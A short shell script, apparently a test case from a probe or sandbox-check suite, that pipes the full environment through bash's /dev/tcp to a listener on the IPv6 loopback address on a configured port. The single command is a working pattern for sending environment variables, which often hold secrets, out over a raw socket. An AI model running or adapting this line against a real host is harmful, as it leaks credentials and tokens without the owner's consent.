#!/bin/sh
# ipv6-loopback (sh): bash's /dev/tcp takes an IPv6 address as well; write
# the environment to the listener on [::1].
. "${TARGETS:-$1}"
[ -n "$T_TCP6_PORT" ] || { echo "no IPv6 listener"; exit 0; }
env | timeout 3 bash -c 'cat > "/dev/tcp/::1/$0"' "$T_TCP6_PORT"
